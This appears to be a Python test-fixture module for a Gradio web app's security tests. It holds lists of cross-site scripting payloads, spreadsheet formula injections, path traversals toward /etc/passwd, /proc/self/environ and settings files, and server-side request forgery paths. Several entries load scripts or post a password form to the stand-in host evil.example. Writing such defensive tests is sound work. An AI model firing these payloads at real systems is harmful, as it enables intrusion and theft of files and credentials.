"""What people have tried to make a page run, fetch, or read for them. Whatever runs sets
`window.pwned`; whatever is fetched is asked of evil.example.
"""

from __future__ import annotations

from typing import Final

RUN: Final = "window.pwned=1"
EVIL: Final = "http://evil.example/x"

XSS: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src='{EVIL}.js'></script>",
    "<script src=//evil.example/x.js>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<img src={EVIL}.png>",
    f"<IMG SRC=javascript:{RUN}>",
    f"<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text x=0 y=20>x</text></a></svg>",
    f"<body onload={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={EVIL}></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<video poster={EVIL}.png>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<a href='javascript:{RUN}'>눌러요</a>",
    f"<a href='java\nscript:{RUN}'>눌러요</a>",
    f"[눌러요](javascript:{RUN})",
    f"![그림]({EVIL}.png)",
    f"![x](x\"onerror=\"{RUN})",
    f"<form action={EVIL}><input name=password><button>로그인</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href={EVIL}.css>",
    f"<style>@import '{EVIL}.css'; body{{background:url({EVIL}.png)}}</style>",
    f"<div style=\"background:url({EVIL}.png)\">x</div>",
    f"<div style=\"width:expression({RUN})\">x</div>",
    f"\" onmouseover=\"{RUN}\" x=\"",
    f"' onmouseover='{RUN}' x='",
    f"\"><script>{RUN}</script>",
    f"'><img src=x onerror={RUN}>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<%= {RUN} %>",
    f"#{{{RUN}}}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\ufeff<script>{RUN}</script>",
    f"<\x00script>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞",
    f"<xss onpointerrawupdate={RUN} style=display:block>x</xss>",
    f"<template><script>{RUN}</script></template>",
    f"<img srcset='{EVIL}.png 1x'>",
    f"<picture><source srcset={EVIL}.png><img src=x></picture>",
    f"<table background={EVIL}.png>",
    f"<dialog open onclose={RUN}><form method=dialog><button autofocus>x</button></form></dialog>",
)  # fmt: skip

FORMULAS: Final = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example")', "+1+1", "-2+3", "@SUM(1)",
    "\t=1+1", "\r=1+1", "＝1+1", '=IMPORTXML("http://evil.example","//a")',
)  # fmt: skip

TRAVERSALS: Final = (
    "/ui/../settings.py",
    "/ui/..%2f..%2fsettings.py",
    "/ui/%2e%2e/settings.toml",
    "/ui/theme.css/../../settings.py",
    "/ui/....//....//etc/passwd",
    "/static/../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/%252e%252e%252fetc%252fpasswd",
    "/assets/../../../etc/passwd",
    "/assets/..%5c..%5c..%5cetc%5cpasswd",
    "/svelte/../../../etc/passwd",
    "/gradio_api/file=/etc/passwd",
    "/gradio_api/file=../../etc/passwd",
    "/gradio_api/file//etc/passwd",
    "/studio/gradio_api/file=/etc/passwd",
    "/studio/gradio_api/file=../settings.py",
    "/studio/gradio_api/file=..%2fsettings.py",
    "/studio/gradio_api/file=/proc/self/environ",
    "/studio/gradio_api/file=file:///etc/passwd",
    "/studio/static/../../../../etc/passwd",
    "/custom_component/x/server/../../../etc/passwd",
    "//etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/..;/..;/etc/passwd",
    "/ui/logo.svg%00.txt",
    "/ai/chatbot/recommendation/../../../etc/passwd",
)


def fetchers(url: str) -> tuple[str, ...]:
    """Paths that ask the server to fetch the address."""
    bare = url.removeprefix("http://")
    return tuple(
        f"{page}/gradio_api/{route}{address}"
        for page in ("", "/studio")
        for route in (
            "file=",
            "proxy=",
            "file/",
            "stream/",
            "custom_component/",
            "deep_link?session_hash=",
        )
        for address in (
            url,
            url.replace("://", ":/"),
            f"http:%2f%2f{bare}",
            f"//{bare}",
            url.upper(),
        )
    )
